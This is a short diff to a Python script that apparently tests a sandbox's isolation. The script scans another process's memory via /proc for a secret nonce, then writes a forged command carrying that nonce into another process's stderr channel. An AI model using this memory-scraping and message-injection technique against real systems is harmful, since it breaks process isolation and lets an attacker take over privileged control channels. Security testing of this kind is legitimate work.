@@ -14,12 +14,12 @@ try:
                 text = memory.read(int(last, 16) - int(first, 16))
             except OSError:
                 continue
-            found = re.search(rb"E %s %s %s\\n' '([0-9a-f]{32})'", text)
+            found = re.search(rb"E %s %s %s %s\\n' '([0-9a-f]{32})'", text)
             nonce = nonce or (found and found[1].decode())
     print('nonce', 'found' if nonce else 'not found', flush=True)
     os.write(1, b'\0' + nonce.encode() + b'\0')
     with open(f'/proc/{lane}/fd/2', 'w') as channel:
-        channel.write(f'E {nonce} 0 /proc/1\n')
+        channel.write(f'E {nonce} 0 2 7\n')
 except OSError as error:
     print(error.filename.replace(lane, 'LANE'), error.strerror)
 sys.exit(7)
